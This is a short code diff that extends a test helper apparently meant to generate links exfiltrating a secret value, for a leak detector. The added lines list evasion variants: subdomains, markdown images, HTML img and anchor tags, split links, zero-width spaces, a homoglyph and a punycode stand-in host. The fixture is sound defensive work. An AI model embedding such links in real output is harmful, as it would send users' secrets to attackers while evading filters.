@@ -67,8 +67,16 @@ function unwrapped(text: string): string {
   return WRAPPED.reduce((read, [wrapping, sign]) => read.replace(wrapping, sign), text);
 }
 
+/** The ways to carry data in a link: in its path, query, fragment or subdomain, as a picture, or in disguise. */
 function leaking(url: string): string {
-  return `${url}/${BOOTY} [look](${url}?d=${BOOTY}) ![p](${url}/${BOOTY}.png) <${url}#${BOOTY}>`;
+  const bare = url.replace(/^https?:\/\//u, '');
+  return [
+    `${url}/${BOOTY} [look](${url}?d=${BOOTY}) ![p](${url}/${BOOTY}.png) <${url}#${BOOTY}>`,
+    `https://${BOOTY}.${bare} ${BOOTY}.${bare} //${bare}/${BOOTY}`,
+    `[ref]: ${url}/${BOOTY}\n<img src="${url}/${BOOTY}"> <a href='${url}?${BOOTY}'>a</a>`,
+    `[spl](${url}/\n${BOOTY}) **${url}/**${BOOTY} ${url.replace('.', '.\u200b')}/${BOOTY}`,
+    `${url.replace(/e/u, '\u0435')}/${BOOTY} https://xn--vil-9cd.com/${BOOTY} ${url.replace('.', '&#46;')}/${BOOTY}`,
+  ].join('\n');
 }
 
 /** Every text in a request; JSON within JSON is parsed, which removes its escapes. */
